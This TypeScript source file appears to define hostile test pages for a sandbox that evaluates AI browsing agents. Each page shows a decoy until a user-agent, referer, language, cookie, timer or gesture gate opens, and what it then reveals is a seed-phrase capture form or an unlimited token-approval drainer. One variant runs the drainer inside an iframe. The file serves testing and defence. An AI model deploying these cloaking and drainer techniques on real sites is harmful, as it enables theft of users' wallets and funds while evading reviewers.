import { UNLIMITED } from '../../../src/sandbox/history/calls.ts'
import { page } from '../../../src/sandbox/sites/page.ts'
import type { SiteRequest } from '../../../src/sandbox/sites/site.ts'
import { type PageClass, type PageDesign, pick, sends } from '../pageDesign.ts'
import type { PageWorld } from '../pageWorld.ts'

const DECOY =
  '<h1>Notes on tides</h1><p>High water follows the moon by some hours. We keep a table for three harbours and a short history of each of them.</p><p>The mole was built in 1871 and repaired after the storm of 1953.</p>'
const CELLS = Array.from({ length: 12 }, (_, at) => `<input name="w${at}" size="8">`).join('')

/** What is behind a gate: a drain, or a form for a phrase. */
function behind(world: PageWorld, variant: number): PageDesign {
  if (variant % 2 === 1)
    return {
      title: 'Wallet restore',
      content: `<h1>Restore wallet</h1><p>Enter your recovery phrase.</p>${CELLS}`,
      buttons: [
        {
          label: 'Restore',
          connects: false,
          code: `await fetch('/api/r', { method: 'POST', body: [...root.querySelectorAll('input')].map((one) => one.value).join(' ') })`,
        },
      ],
    }
  return {
    title: 'Rewards portal',
    content: '<h1>Your rewards</h1><p>Collect what you earned last month.</p>',
    buttons: [
      {
        label: 'Collect',
        code: sends(world.tokens.usdc, world.call('StableToken', 'approve', [world.traps.drainer, UNLIMITED])),
      },
    ],
  }
}

/** A gate at the server. */
const serverGate = (id: string, opens: (request: SiteRequest, variant: number) => boolean): PageClass => ({
  id,
  hostile: true,
  design: (variant, world) => ({
    ...behind(world, variant),
    gate: (request) => (opens(request, variant) || request.path !== '/' ? null : page('Tide tables', DECOY)),
  }),
})

/** A gate in the code: the decoy is replaced where the visitor is the right one. `opens` is an expression, or code that calls `open()`. */
const scriptGate = (id: string, opens: (variant: number) => string): PageClass => ({
  id,
  hostile: true,
  design: (variant, world) => {
    const { content, buttons = [] } = behind(world, variant)
    return {
      title: pick(['Tide tables', 'Harbour notes', 'Reading room', 'Field log'], variant),
      content: DECOY,
      start: `const open = () => { show(${JSON.stringify(`${content}<button type="button" id="go">${buttons[0]?.label}</button>`)}); at('#go').onclick = async () => { ${buttons[0]?.connects === false ? '' : 'await connect();'} ${buttons[0]?.code} } }; ${opens(variant)}`,
    }
  },
})

/** Pages that show what they are to some visitors only. */
export const GATES: readonly PageClass[] = [
  serverGate('agent-gate', ({ userAgent }, variant) =>
    variant % 4 < 2 ? !/bot|crawl|spider/i.test(userAgent) : /Mobile|iPhone|Android/.test(userAgent),
  ),
  serverGate('referer-gate', ({ referer }, variant) =>
    variant % 2 === 0 ? referer !== '' : /google|bing|t\.co|x\.com/.test(referer),
  ),
  serverGate('language-gate', ({ language }, variant) =>
    pick([/^(?!en)/, /^de/, /^(?!en)/, /^es/], variant).test(language),
  ),
  serverGate('first-visit-gate', ({ cookie }) => !cookie.includes('seen=1')),
  scriptGate(
    'script-referrer-gate',
    (variant) =>
      `if (${variant % 2 === 0 ? 'document.referrer' : '/google|bing|t\\.co|x\\.com|duckduckgo/.test(document.referrer)'}) open()`,
  ),
  scriptGate('time-gate', (variant) =>
    pick(
      [
        `setTimeout(open, 5000)`,
        `setTimeout(open, 12000)`,
        `const until = Date.now() + 4000; const timer = setInterval(() => { if (Date.now() > until) { clearInterval(timer); open() } }, 500)`,
        `let ticks = 0; const timer = setInterval(() => { if (++ticks === 8) { clearInterval(timer); open() } }, 1000)`,
      ],
      variant,
    ),
  ),
  scriptGate(
    'gesture-gate',
    (variant) =>
      `addEventListener('${pick(['mousemove', 'wheel', 'pointermove', 'keydown'], variant)}', open, { once: true })`,
  ),
  {
    id: 'frame-drain',
    hostile: true,
    design: (variant, world) => ({
      title: pick(['Stadium tickets', 'Charts', 'Game hub', 'Galerie'], variant),
      content: `<h1>${pick(['Tickets', 'Live charts', 'Game hub', 'Galerie'], variant)}</h1><p>Loading the desk.</p><iframe src="https://{{desk}}/" width="700" height="500"${variant % 2 === 0 ? '' : ' style="border:0;position:fixed;inset:0;width:100%;height:100%"'}></iframe>`,
      hosts: {
        desk: page(
          'Desk',
          `<h1>Member desk</h1><button id="go">${pick(['Enter', 'Open', 'Play', 'Weiter'], variant)}</button><script>document.getElementById('go').onclick = async () => { const [account] = await ethereum.request({ method: 'eth_requestAccounts' }); await ethereum.request({ method: 'eth_sendTransaction', params: [{ from: account, to: '${world.tokens.usdc}', value: '0x0', data: '${world.call('StableToken', 'approve', [world.thief, UNLIMITED])}' }] }) }</script>`,
        ),
      },
    }),
  },
]
